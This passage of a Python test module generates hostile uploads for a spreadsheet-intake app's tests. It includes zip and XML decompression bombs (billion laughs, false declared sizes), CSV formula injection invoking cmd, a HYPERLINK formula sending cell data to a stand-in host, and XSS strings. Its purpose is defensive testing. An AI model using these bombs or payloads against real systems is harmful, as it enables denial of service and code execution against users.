"""A hostile corpus for intake, generated in memory (issue 15): nothing here is committed as a file.

    .venv/bin/python tests/hostile_corpus.py [--write]   # lists the corpus (--write: under test-output/)

Each case is (name, class, file name, bytes maker, dataset it is made for or None, expected outcome):
"read" (the dataset loads), "refuse" (an error problem) or "either" (tried against every dataset;
what matters is that nothing raises and every refusal names its place). Classes follow issue 15:
export (spreadsheets as real exports make them), broken, bomb, injection, number, date, encoding.

Bombs are built without ever holding what they unpack to: a deflate stream of one block repeated
(after a full flush, deflate writes the same bytes for the same block), written into a zip by hand
so that the sizes the zip declares can be true or lies.
"""
from __future__ import annotations

import functools
import io
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable


sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from tests import userfiles as u  # noqa: E402


@dataclass(frozen=True)
class Case:
    name: str
    cls: str
    filename: str
    make: Callable[[], bytes]
    dataset: str | None = None
    expect: str = "either"


# ------------------------------------------------------------------ zips written by hand

def deflate_repeat(prefix: bytes, block: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """(raw deflate data, CRC-32, size) of prefix + block * times + suffix, without building it."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)  # same bytes every time after a full flush
    tail = comp.compress(suffix) + comp.flush()
    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    return head + again * times + tail, crc, len(prefix) + len(block) * times + len(suffix)


def _deflate(data: bytes) -> tuple[bytes, int, int]:
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush(), zlib.crc32(data), len(data)


def raw_zip(entries: list[tuple[str, tuple[bytes, int, int]]], declared: dict | None = None) -> bytes:
    """A zip of deflated entries (name, (data, crc, size)); ``declared``: {name: size to claim}."""
    out, central = bytearray(), bytearray()
    for name, (data, crc, size) in entries:
        claim = (declared or {}).get(name, size)
        encoded, offset = name.encode(), len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), claim, len(encoded), 0)
        out += encoded + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), claim,
                               len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + end)


CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                 b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                 b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
                 b'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 b'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                 b'"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override '
                 b'PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 b'spreadsheetml.sharedStrings+xml"/></Types>')
ROOT_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
             b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
             b'2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
BOOK = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        b'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
        b'name="Datos" sheetId="1" r:id="rId1"/></sheets></workbook>')
BOOK_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
             b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
             b'relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.'
             b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
             b'</Relationships>')
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
              b'2006/main"><sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"
STRINGS_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                b'2006/main" count="1" uniqueCount="1">')
EMPTY_STRINGS = STRINGS_HEAD + b"<si><t>x</t></si></sst>"


def xlsx_parts(sheet: tuple[bytes, int, int], strings: tuple[bytes, int, int] | None = None,
               declared: dict | None = None) -> bytes:
    """A one-sheet XLSX from a deflated sheet (and shared strings), as raw_zip entries."""
    entries = [("[Content_Types].xml", _deflate(CONTENT_TYPES)), ("_rels/.rels", _deflate(ROOT_RELS)),
               ("xl/workbook.xml", _deflate(BOOK)), ("xl/_rels/workbook.xml.rels", _deflate(BOOK_RELS)),
               ("xl/worksheets/sheet1.xml", sheet), ("xl/sharedStrings.xml", strings or _deflate(EMPTY_STRINGS))]
    return raw_zip(entries, declared)


def plain_sheet(rows: list[list[str]]) -> bytes:
    """Sheet XML of inline strings, cells with their references."""
    out = bytearray(SHEET_HEAD)
    for r, row in enumerate(rows, start=1):
        out += f'<row r="{r}">'.encode()
        for c, value in enumerate(row):
            out += f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{value}</t></is></c>'.encode()
        out += b"</row>"
    return bytes(out + SHEET_TAIL)


# ------------------------------------------------------------------ bombs

@functools.cache
def bomb_cells(rows: int, per_row: int, lie: bool = False) -> bytes:
    """rows x per_row cells holding 1 (no references: they sit one after the other)."""
    block = b"<row>" + b"<c><v>1</v></c>" * per_row + b"</row>"
    sheet = deflate_repeat(SHEET_HEAD, block, rows, SHEET_TAIL)
    return xlsx_parts(sheet, declared={"xl/worksheets/sheet1.xml": 1_000_000} if lie else None)


@functools.cache
def bomb_shared_string(chars: int, lie: bool = False) -> bytes:
    """One shared string of ``chars`` characters, used by A1."""
    sheet = _deflate(SHEET_HEAD + b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + SHEET_TAIL)
    block = b"A" * 1_000_000
    strings = deflate_repeat(STRINGS_HEAD + b"<si><t>", block, chars // len(block), b"</t></si></sst>")
    return xlsx_parts(sheet, strings, declared={"xl/sharedStrings.xml": 100_000} if lie else None)


def bomb_corners() -> bytes:
    """Two cells, A1 and XFD1048576: a reader laying out the grid makes 17 billion cells."""
    sheet = SHEET_HEAD + (b'<row r="1"><c r="A1" t="inlineStr"><is><t>Fase</t></is></c></row><row r="1048576">'
                          b'<c r="XFD1048576"><v>1</v></c></row>') + SHEET_TAIL
    return xlsx_parts(_deflate(sheet))


def bomb_corners_written_otherwise() -> bytes:
    """The corner bomb with the far cell's reference after another attribute (valid XML, read by calamine)."""
    sheet = SHEET_HEAD + (b'<row r="1"><c r="A1" t="inlineStr"><is><t>Fase</t></is></c></row><row r="1048576">'
                          b'<c s="0" r="XFD1048576"><v>1</v></c></row>') + SHEET_TAIL
    return xlsx_parts(_deflate(sheet))


@functools.cache
def bomb_empty_rows(rows: int) -> bytes:
    """A header row of 3 cells, ``rows`` empty rows written <row/>, then a row of 3 cells: a reader lays out
    every empty row."""
    head = SHEET_HEAD + b"<row>" + b'<c t="inlineStr"><is><t>x</t></is></c>' * 3 + b"</row>"
    return xlsx_parts(deflate_repeat(head, b"<row/>", rows, b"<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c>"
                                                               b"</row>" + SHEET_TAIL))


def bomb_prefixed_corners() -> bytes:
    """The corner bomb in a worksheet whose root has a prefix and whose cells are in the default namespace."""
    sheet = SHEET_HEAD.replace(b"<worksheet ", b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/'
                                              b'spreadsheetml/2006/main" ', 1)
    sheet += (b'<row r="1"><c r="A1" t="inlineStr"><is><t>Fase</t></is></c></row><row r="1048576">'
              b'<c r="XFD1048576"><v>1</v></c></row></sheetData></x:worksheet>')
    return xlsx_parts(_deflate(sheet))


def bomb_deep(depth: int) -> bytes:
    """A worksheet whose cell holds ``depth`` nested elements."""
    prefix = SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>Fase</t></is></c></row></sheetData><extLst>'
    body = deflate_repeat(prefix, b"<x>", depth, b"</x>" * depth + b"</extLst></worksheet>")
    return xlsx_parts(body)


def bomb_entities() -> bytes:
    """Billion laughs in the shared strings."""
    doctype = b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(9)) + b"]>"
    strings = doctype + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
    sheet = SHEET_HEAD + b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + SHEET_TAIL
    return xlsx_parts(_deflate(sheet), _deflate(strings))


def bomb_many_parts(parts: int = 20_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for k in range(parts):
            archive.writestr(f"xl/media/p{k}.xml", b"")
    return out.getvalue()


def bomb_ratio() -> bytes:
    """A sheet of 40 MB of blanks (inside an element) from about 40 KB: a ratio of 1,000."""
    return xlsx_parts(deflate_repeat(SHEET_HEAD, b" " * 1_000_000, 40, SHEET_TAIL))


# ------------------------------------------------------------------ broken and disguised files

def _text(lines: list[str], encoding: str = "cp1252", sep: str = "\r\n") -> bytes:
    return (sep.join(lines) + sep).encode(encoding)


def xlsx_of(header: list, rows: list[list], title: list[list] | None = None, sheet: str = "Datos") -> bytes:
    return u._xlsx(title or [], header, rows, sheet=sheet)


def truncated_xlsx() -> bytes:
    whole = u.traffic_xlsx_es()
    return whole[: len(whole) // 2]


def ole_xls() -> bytes:
    """An OLE header with a BIFF workbook stream name, as an .xls of Excel 97-2003 starts."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Workbook".encode("utf-16-le") + bytes(2000)


def ole_encrypted() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2000)


def junk(n: int = 4096, seed: int = 11) -> bytes:
    import random
    rng = random.Random(seed)
    return bytes([0x00, 0x13, 0x37]) + bytes(rng.randrange(256) for _ in range(n))


def html_as_xls() -> bytes:
    return ("<html><body><table><tr><td>Fecha</td><td>Ofrecidas</td></tr>"
            "<tr><td>04/03/2024</td><td>12</td></tr></table></body></html>").encode("utf-8")


def journey_text(comments: list[str], encoding: str = "utf-8") -> bytes:
    lines = ["Fase;Recomendación;Comentario"]
    lines += [f"Agendamiento;{k % 11};{c}" for k, c in enumerate(comments)]
    return _text(lines, encoding)


INJECTIONS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
              "\t=1+1", " =HYPERLINK(\"http://x.example/?\"&A1)", "<script>alert(1)</script>",
              "<img src=x onerror=alert(1)>", "![x](http://host.example/x.png)", "[t](javascript:alert(1))",
              "${\\color{red}x}", "**negrita** _cursiva_ # título", "texto\x07con\x1bcontrol",
              "\u202etxt.exe", "Línea con\r\nsalto", "texto;=1+1"]


def injection_csv() -> bytes:
    """Comments a hostile user typed, each in its own quoted cell."""
    quoted = ['"' + c.replace('"', '""') + '"' for c in INJECTIONS]
    return journey_text(quoted)


def numbers_csv(values: list[str]) -> bytes:
    """An indicators CSV (Spanish dialect) whose Valor column holds ``values``."""
    return _text(["Indicador;Valor;Meta"] + [f"Indicador {k};{v};90" for k, v in enumerate(values)])


def traffic_dates_csv(dates: list[str]) -> bytes:
    return _text(["Fecha;Hora;Ofrecidas"] + [f"{d};08:00;{10 + k}" for k, d in enumerate(dates)])


def mac_roman_csv() -> bytes:
    return _text(["Fase;Recomendación;Comentario", "Aplicación;9;Atención rápida en el baño",
                  "Facturación;7;Señal débil"], "mac-roman")


def stray_latin1_in_utf8() -> bytes:
    good = "Fase;Recomendación;Comentario\r\nAplicación;9;Atención rápida\r\n".encode("utf-8")
    return good + "Facturación;7;Dem".encode("utf-8") + b"\xf3" + b"ra\r\n"


def long_text(chars: int) -> bytes:
    return journey_text(["x" * chars])


def utf16_no_bom() -> bytes:
    return u.traffic_csv_es().decode("cp1252").replace(";", "\t").encode("utf-16-le")


def title_block_csv() -> bytes:
    lines = ["Clínica San Rafael — Reporte de llamadas;;;", "Generado: 04/03/2024 07:00;;;", ";;;"]
    return _text(lines) + u.traffic_csv_es()


def open_quote_csv() -> bytes:
    return _text(["Fase;Recomendación;Comentario", 'Agendamiento;9;"sin cerrar', "Pago;8;bien"])


def extra_field_csv() -> bytes:
    lines = ["Fase;Recomendación;Comentario"] + [f"Agendamiento;{k % 11};ok" for k in range(1200)]
    lines.append("Pago;8;demora; mucha")
    return _text(lines)


def many_cells_csv() -> bytes:
    """50 MB of separators: 50 million empty cells in few bytes each."""
    return b"Fase;Recomendacion" + b";" * 16382 + b"\r\n" + (b";" * 16383 + b"\r\n") * 3000


def hidden_first_xlsx() -> bytes:
    header = ["Cuenta", "Periodo", "Abandono"]
    return u._xlsx([], header, [["A", "Antes", 4.0]], hidden={"oculta": [header, ["B", "Antes", 9.0]]})


def us_dates_xlsx_text() -> bytes:
    """Dates typed as text in the US order in consecutive days (03/04 .. 03/09)."""
    return xlsx_of(["Fecha", "Hora", "Ofrecidas"], [[f"03/{d:02d}/2024", "08:00", 10 + d] for d in range(4, 10)])


def serial_dates_csv() -> bytes:
    return _text(["Fecha;Hora;Ofrecidas", "45355;08:00;10", "45356;08:30;12", "-5;09:00;3", "99999999;09:30;4"])


# ------------------------------------------------------------------ the corpus

def cases() -> list[Case]:
    C = Case
    return [
        # spreadsheets as real exports make them
        C("traffic_csv_es", "export", "trafico.csv", u.traffic_csv_es, "traffic", "read"),
        C("traffic_csv_mmss", "export", "trafico_tmo.csv", lambda: u.traffic_csv_es(aht_as="mmss"), "traffic", "read"),
        C("traffic_xlsx_title", "export", "trafico.xlsx", u.traffic_xlsx_es, "traffic", "read"),
        C("traffic_unicode_text", "export", "trafico.txt", lambda: u.unicode_text(u.traffic_csv_es().decode("cp1252")),
          "traffic", "read"),
        C("traffic_utf16_no_bom", "export", "trafico.txt", utf16_no_bom, "traffic", "read"),
        C("traffic_title_block_csv", "export", "trafico_titulo.csv", title_block_csv, "traffic", "read"),
        C("journey_xlsx", "export", "encuesta.xlsx", u.journey_xlsx_es, "journey_responses", "read"),
        C("journey_csv", "export", "encuesta.csv", u.journey_csv_es, "journey_responses", "read"),
        C("servqual_csv", "export", "servqual.csv", u.servqual_csv_es, "servqual", "read"),
        C("servqual_xlsx", "export", "servqual.xlsx", u.servqual_xlsx_es, "servqual", "read"),
        C("abandonment_csv", "export", "abandono.csv", u.abandonment_csv_es, "abandonment", "read"),
        C("cdr_csv", "export", "llamadas.csv", u.cdr_csv_es, "cdr", "read"),
        C("cdr_xlsx", "export", "llamadas.xlsx", u.cdr_xlsx_es, "cdr", "read"),
        C("indicators_csv", "export", "indicadores.csv", u.indicators_csv_es, "indicators", "read"),
        C("xlsm_named", "export", "trafico.xlsm", u.traffic_xlsx_es, "traffic", "read"),
        C("hidden_sheet_first", "export", "abandono_oculta.xlsx", hidden_first_xlsx, "abandonment", "read"),
        # broken and disguised
        C("truncated_xlsx", "broken", "trafico.xlsx", truncated_xlsx, "traffic", "refuse"),
        C("csv_named_xlsx", "broken", "trafico.xlsx", u.traffic_csv_es, "traffic", "refuse"),
        C("xlsx_named_csv", "broken", "trafico.csv", u.traffic_xlsx_es, "traffic", "read"),
        C("empty", "broken", "vacio.csv", lambda: b"", "traffic", "refuse"),
        C("blank_lines", "broken", "blanco.csv", lambda: b" \r\n\r\n  \r\n", "traffic", "refuse"),
        C("only_header", "broken", "solo_encabezado.csv", lambda: _text(["Fecha;Hora;Ofrecidas"]), "traffic", "refuse"),
        C("only_header_xlsx", "broken", "solo_encabezado.xlsx", lambda: xlsx_of(["Fecha", "Hora", "Ofrecidas"], []),
          "traffic", "refuse"),
        C("binary_junk", "broken", "datos.csv", junk, "traffic", "refuse"),
        C("png_renamed", "broken", "foto.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "traffic", "refuse"),
        C("pdf_renamed", "broken", "reporte.csv", lambda: b"%PDF-1.7\n" + bytes(200), "traffic", "refuse"),
        C("xls_97", "broken", "trafico.xls", ole_xls, "traffic", "refuse"),
        C("xlsx_with_password", "broken", "protegido.xlsx", ole_encrypted, "traffic", "refuse"),
        C("ods", "broken", "abandono.ods", lambda: u.ods(["Cuenta", "Periodo", "Abandono (%)"], [["L1", "Antes", 4.5]]),
          "abandonment", "refuse"),
        C("html_as_xls", "broken", "reporte.xls", html_as_xls, "traffic", "refuse"),
        C("plain_zip", "broken", "datos.xlsx", lambda: raw_zip([("a.txt", _deflate(b"hola"))]), "traffic", "refuse"),
        C("open_quote", "broken", "encuesta.csv", open_quote_csv, "journey_responses", "refuse"),
        C("extra_field_row", "broken", "encuesta.csv", extra_field_csv, "journey_responses", "refuse"),
        # bombs
        C("bomb_1e8_cells", "bomb", "bomba.xlsx", lambda: bomb_cells(10_000, 10_000), "traffic", "refuse"),
        C("bomb_1e7_cells_lying", "bomb", "bomba.xlsx", lambda: bomb_cells(1_000, 10_000, lie=True), "traffic", "refuse"),
        C("bomb_1e9_char_string", "bomb", "bomba.xlsx", lambda: bomb_shared_string(10**9), "traffic", "refuse"),
        C("bomb_1e8_char_string_lying", "bomb", "bomba.xlsx", lambda: bomb_shared_string(10**8, lie=True),
          "traffic", "refuse"),
        C("bomb_corner_cells", "bomb", "esquinas.xlsx", bomb_corners, "journey_responses", "refuse"),
        C("bomb_corner_reference_not_first", "bomb", "esquinas.xlsx", bomb_corners_written_otherwise,
          "journey_responses", "refuse"),
        C("bomb_empty_rows", "bomb", "filas.xlsx", lambda: bomb_empty_rows(1_700_000), "traffic", "refuse"),
        C("bomb_corner_prefixed_root", "bomb", "esquinas.xlsx", bomb_prefixed_corners, "journey_responses", "refuse"),
        C("bomb_deep_xml", "bomb", "profundo.xlsx", lambda: bomb_deep(300_000), "journey_responses", "either"),
        C("bomb_entities", "bomb", "risas.xlsx", bomb_entities, "traffic", "refuse"),
        C("bomb_many_parts", "bomb", "partes.xlsx", bomb_many_parts, "traffic", "refuse"),
        C("bomb_ratio", "bomb", "ratio.xlsx", bomb_ratio, "traffic", "refuse"),
        C("bomb_many_cells_csv", "bomb", "separadores.csv", many_cells_csv, "traffic", "refuse"),
        C("over_byte_limit", "bomb", "grande.csv", lambda: b"Fase;Valor\r\n" + b"a;1\r\n" * 10_500_000, "traffic",
          "refuse"),
        # injections
        C("injection_texts", "injection", "inyeccion.csv", injection_csv, "journey_responses", "read"),
        C("long_text_ok", "injection", "largo.csv", lambda: long_text(30_000), "journey_responses", "read"),
        C("long_text_over", "injection", "largo.csv", lambda: long_text(200_000), "journey_responses", "refuse"),
        C("injection_xlsx", "injection", "inyeccion.xlsx",
          lambda: xlsx_of(["Fase", "Recomendación", "Comentario"], [["Pago", 9, c] for c in INJECTIONS[:12]]),
          "journey_responses", "read"),
        # numbers
        C("numbers_inf", "number", "valores.csv", lambda: numbers_csv(["inf", "Infinity", "-inf", "NaN", "5", "6", "7", "8", "9"]),
          "indicators", "either"),
        C("numbers_1e999", "number", "valores.csv", lambda: numbers_csv(["1e999", "5"]), "indicators", "either"),
        C("numbers_beyond_int64", "number", "valores.csv",
          lambda: _text(["Fecha;Hora;Ofrecidas", "04/03/2024;08:00;99999999999999999999999", "04/03/2024;08:30;12"]),
          "traffic", "either"),
        C("numbers_mixed_marks", "number", "valores.csv", lambda: numbers_csv(["1.234,5", "2,5", "1,234.5", "7"]),
          "indicators", "refuse"),
        # dates
        C("dates_mixed_orders", "date", "fechas.csv", lambda: traffic_dates_csv(["13/02/2024", "14/02/2024",
                                                                               "02/15/2024"]), "traffic", "refuse"),
        C("dates_us_consecutive", "date", "fechas.xlsx", us_dates_xlsx_text, "traffic", "read"),
        C("dates_out_of_range", "date", "fechas.csv",
          lambda: traffic_dates_csv(["31/02/2024", "01/01/10000", "01/01/1800", "04/03/2024"]), "traffic", "either"),
        C("dates_serials", "date", "fechas.csv", serial_dates_csv, "traffic", "either"),
        # encodings
        C("stray_latin1_byte", "encoding", "encuesta.csv", stray_latin1_in_utf8, "journey_responses", "refuse"),
        C("mac_roman", "encoding", "encuesta.csv", mac_roman_csv, "journey_responses", "read"),
        C("cp1252", "encoding", "encuesta.csv", lambda: journey_text(["Atención rápida"], "cp1252"),
          "journey_responses", "read"),
    ]


# ------------------------------------------------------------------ one file of each class for every upload box

# dataset -> (header, rows, index of a text column, index of a number column or None), Spanish-Excel
# dialect. The hostile file of each class for a box is made from its table (tests/browser, scripts/).
BOX_TABLES: dict[str, tuple[list[str], list[list[str]], int, int | None]] = {
    "traffic": (["Fecha", "Hora", "Ofrecidas", "Atendidas", "TMO (seg)", "Cola"],
                [[f"{4 + k // 4:02d}/03/2024", f"{8 + k % 4}:00", str(10 + k), str(9 + k), f"{200 + k},5", "General"]
                 for k in range(12)], 5, 4),
    "cdr": (["Fecha", "Hora", "Espera [s]", "Duración", "Abandonada", "Cola"],
            [["04/03/2024", f"08:{2 * k:02d}:00", f"{10 + k},5", f"3:{k:02d}", "No" if k % 4 else "Sí", "General"]
             for k in range(12)], 5, 2),
    "indicators": (["Indicador", "Valor", "Meta", "Unidad"],
                   [["NPS", "62,5", "70", "puntos"], ["Satisfacción", "4,3", "4,5", "1-5"],
                    ["Tiempo de espera", "125,5", "90", "s"]], 0, 1),
    "abandonment": (["Cuenta", "Periodo", "Fecha", "Abandono (%)"],
                    [["Línea 1", "Antes" if k < 5 else "Después", f"{1 + k:02d}/03/2024", f"{4 + k % 3},{k}"]
                     for k in range(10)], 0, 3),
    "journey_responses": (["Fase", "Recomendación", "Satisfacción", "Comentario"],
                          [[["Agendamiento", "Atención", "Pago"][k % 3], str(k % 11), str(1 + k % 5), "Bien"]
                           for k in range(12)], 3, 1),
    "journey_map": (["Fase", "Orden", "Satisfacción", "Recomendación", "Esfuerzo", "Voz del cliente"],
                    [["Agendamiento", "1", "3,5", "20", "4,1", "Demora"], ["Atención", "2", "4,2", "45", "3,0", "Amable"],
                     ["Pago", "3", "3,9", "30", "3,4", "Filas"]], 5, 2),
    "servqual": (["Encuestado", "Sede"] + [f"E{i}" for i in range(1, 23)] + [f"P{i}" for i in range(1, 23)],
                 [[f"R{k:03d}", ["Norte", "Sur"][k % 2]] + [str(4 + (k + i) % 4) for i in range(44)]
                  for k in range(12)], 1, 2),
    "servqual_mapping": (["Ítem", "Dimensión"],
                         [[str(i), d] for d, items in (("tangibles", range(1, 5)), ("reliability", range(5, 10)),
                                                       ("responsiveness", range(10, 14)), ("assurance", range(14, 18)),
                                                       ("empathy", range(18, 23))) for i in items], 1, None),
    "servqual_design": (["Dimensión", "Diseño"],
                        [[d, "5,5"] for d in ("tangibles", "reliability", "responsiveness", "assurance", "empathy")],
                        0, 1),
    "blueprint_current": (["Orden", "Paso", "Evidencia física", "Acciones del cliente", "Tiempo (seg)"],
                          [[str(k + 1), f"Paso {k + 1}", "Formulario", "Llama", f"{60 * (k + 1)}"] for k in range(5)],
                          1, 4),
}
BOX_TABLES["blueprint_proposed"] = BOX_TABLES["blueprint_current"]


def box_csv(dataset: str, text: list[str] | None = None, numbers: list[str] | None = None,
            encoding: str = "cp1252") -> bytes:
    """The dataset's table as a CSV; ``text``/``numbers`` replace the cells of its text/number column."""
    header, rows, text_at, number_at = BOX_TABLES[dataset]
    rows = [list(r) for r in rows]
    for values, at in ((text, text_at), (numbers, number_at)):
        for k, value in enumerate(values or []):
            if k < len(rows):
                rows[k][at] = '"' + value.replace('"', '""') + '"'
    return _text([";".join(header)] + [";".join(r) for r in rows], encoding)


def box_stray_byte(dataset: str) -> bytes:
    """The dataset's table in UTF-8 with one Latin-1 byte in its last line (a file pasted together)."""
    good = box_csv(dataset, text=["Atención"], encoding="utf-8")
    return good[:-2] + b"\xf3" + good[-2:]


def box_too_many_cells(dataset: str, rows: int = 700_000) -> bytes:
    """The dataset's header and 700,000 rows of 4 cells (2.8 million cells, about 7 MB): over MAX_CELLS."""
    header = BOX_TABLES[dataset][0][:4]
    return _text([";".join(header)], "cp1252") + b"a;1;2;3\r\n" * rows


def over_browser_limit(mb: float = 51) -> bytes:
    """A CSV of ``mb`` MB (of 1,048,576 bytes): refused by the browser before any code of the app runs."""
    line = b"04/03/2024;08:00;12;11;200,5;General\r\n"
    head = b"Fecha;Hora;Ofrecidas;Atendidas;TMO (seg);Cola\r\n"
    size = int(mb * 1024 * 1024)
    return (head + line * (size // len(line) + 1))[:size]


def box_duplicate_header(dataset: str) -> bytes:
    """The dataset's first column twice, under the same header, holding different values."""
    header, rows, _, _ = BOX_TABLES[dataset]
    lines = [";".join(header[:1] + header)] + [";".join([f"{k}"] + r) for k, r in enumerate(rows)]
    return _text(lines)


def box_ambiguous(dataset: str) -> bytes | None:
    """One number column mixing "1.234,5" and "1,234.5" (None: the dataset has no number column)."""
    if BOX_TABLES[dataset][3] is None:
        return None
    return box_csv(dataset, numbers=["1.234,5", "2,5", "1,234.5"])


def box_cases(dataset: str) -> list[Case]:
    """A good file, then one file of each class, for the upload box of ``dataset`` (in upload order):
    broken, bomb, encoding, ambiguity, oversized refused; the injection read (its text kept, inert)."""
    C = Case
    out = [C(f"{dataset}_good", "export", "bueno.csv", lambda: box_csv(dataset), dataset, "read"),
           C("truncated_xlsx", "broken", "trafico.xlsx", truncated_xlsx, dataset, "refuse"),
           C("bomb_1e9_char_string", "bomb", "bomba.xlsx", lambda: bomb_shared_string(10**9), dataset, "refuse"),
           C(f"{dataset}_stray_byte", "encoding", "mezcla.csv", lambda: box_stray_byte(dataset), dataset, "refuse")]
    if box_ambiguous(dataset) is not None:
        out.append(C(f"{dataset}_mixed_marks", "ambiguity", "decimales.csv", lambda: box_ambiguous(dataset), dataset,
                     "refuse"))
    else:  # text only: the ambiguity left is which of two columns of the same name to read
        out.append(C(f"{dataset}_duplicate_header", "ambiguity", "repetida.csv", lambda: box_duplicate_header(dataset),
                     dataset, "refuse"))
    out += [C(f"{dataset}_too_many_cells", "oversized", "celdas.csv", lambda: box_too_many_cells(dataset), dataset,
              "refuse"),
            C(f"{dataset}_injection", "injection", "inyeccion.csv",
              lambda: box_csv(dataset, text=INJECTIONS, encoding="utf-8"), dataset, "read")]
    return out

def main() -> None:
    out = Path(__file__).resolve().parent.parent / "test-output" / "hostile"
    write = "--write" in sys.argv
    for case in cases():
        content = case.make()
        print(f"{case.cls:<10}{case.name:<30}{case.filename:<24}{len(content):>12,} bytes  {case.expect}")
        if write:
            out.mkdir(parents=True, exist_ok=True)
            (out / f"{case.name}__{case.filename}").write_bytes(content)


if __name__ == "__main__":
    main()


def prefixed_workspace(payloads: list[str], name: str, source: str):
    """The sample case as the user's own data named ``name``: every distinct text value of every
    dataset prefixed with one of ``payloads`` in turn, each dataset stored as from file ``source``."""
    import pandas as pd

    from core.sample import sample_workspace

    ws = sample_workspace()
    ws.name = name
    for dataset, frame in list(ws.datasets.items()):
        frame = frame.copy()
        for col in frame.columns:
            if pd.api.types.is_numeric_dtype(frame[col]) or pd.api.types.is_datetime64_any_dtype(frame[col]):
                continue
            values = sorted({v for v in frame[col].dropna().unique() if isinstance(v, str)})
            mapping = {v: payloads[i % len(payloads)] + v for i, v in enumerate(values)}
            frame[col] = frame[col].map(lambda v: mapping.get(v, v))
        ws.put(dataset, frame, source)
    return ws


# ------------------------------------------------------------------ workspace files for the import box

def _workspace(name: str, long_note: bool = False):
    from core.sample import sample_workspace
    ws = sample_workspace("es")
    ws.name = name
    if long_note:       # a text over Excel's 32,767 characters per cell: the export is a ZIP
        ws.settings["blueprint.notes"] = "Notas " + "x" * 40_000
    return ws


def _rezip(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.namelist():
            dst.writestr(item, change(item, src.read(item)))
    return out.getvalue()


def workspace_zip_with(change: Callable[[str, bytes], bytes]) -> bytes:
    from core.workspace_file import export_workspace
    return _rezip(export_workspace(_workspace("Equipo zip", long_note=True)), change)


def _json_part(edit: Callable[[dict], dict]) -> Callable[[str, bytes], bytes]:
    import json

    def change(item: str, data: bytes) -> bytes:
        return edit(json.loads(data)) if item == "workspace.json" else data
    return change


def _version_1e999(info: dict) -> bytes:
    import json
    return json.dumps(info).replace('"version": 1', '"version": 1e999').encode()


def _deep_setting(info: dict) -> bytes:
    import json
    text = json.dumps(info)
    return text.replace('"settings": {', '"settings": {"journey.split": ' + "[" * 100_000 + "]" * 100_000 + ", ", 1).encode()


def _stray_byte_dataset(item: str, data: bytes) -> bytes:
    return data[:-2] + b"\xf3" + data[-2:] if item.endswith("journey_responses.csv") else data


def import_cases() -> list[Case]:
    """A good workspace file, then one of each class, for the workspace import box (XLSX or ZIP only)."""
    from core.workspace_file import export_workspace
    C = Case
    return [
